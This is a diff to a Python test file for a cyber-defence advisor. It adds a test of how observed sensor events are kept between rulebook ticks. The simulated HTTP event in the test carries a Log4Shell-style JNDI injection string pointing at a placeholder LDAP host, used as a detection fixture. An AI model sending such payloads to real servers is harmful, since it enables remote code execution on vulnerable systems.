@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from datetime import UTC, datetime, timedelta
+
 import numpy as np
 import pytest
 from tocsin.envs.game import Game, load_game
@@ -10,6 +12,7 @@ from tocsin.orchestrator.advise import Policy, Situation, TwinAdvisor
 from tocsin.orchestrator.supply import policy_of
 from tocsin.playbooks.actions import encode
 from tocsin.twin.compiled import Int32
+from tocsin.twin.sensing.events import Event, EventClass
 
 HELD, OTHER = "csms/container/desk", "fleet/host/vpn"
 
@@ -81,3 +84,20 @@ def test_the_threshold_rule_proposes_to_restore_what_is_surely_held(game: Game) 
     assert proposal.playbook == game.library.playbooks[game.library.index_of("restore-asset")].id
     assert proposal.owners == ("csms",)
     assert not advisor(game, policy_of(game, None)).propose()
+
+
+def test_what_comes_between_ticks_of_the_rulebook_is_kept_for_the_next(game: Game) -> None:
+    """A node ticks each second, the rulebook each minute: belief is that of seeing all at the minute."""
+    noon = datetime(2026, 11, 1, 12, tzinfo=UTC)
+    at_ms = round(noon.timestamp() * 1000)
+    exploit = {"url": "/?q=${jndi:ldap://x}", "http_code": 500}
+    shells = [Event(f"e{n}", EventClass.HTTP, 1, at_ms, HELD, "csms", "sensor", **exploit) for n in range(1)]
+    piecemeal, at_once, blind = (advisor(game, always(0)) for _ in range(3))
+    for one in (piecemeal, at_once, blind):
+        one.observe([], noon)
+    for second in range(1, 61):
+        piecemeal.observe(shells[second - 1 : second], noon + timedelta(seconds=second))
+    at_once.observe(shells, noon + timedelta(seconds=60))
+    blind.observe([], noon + timedelta(seconds=60))
+    held = [{row.asset: row.user for row in one.belief("csms")}[HELD] for one in (piecemeal, at_once, blind)]
+    assert held[0] == held[1] > held[2]
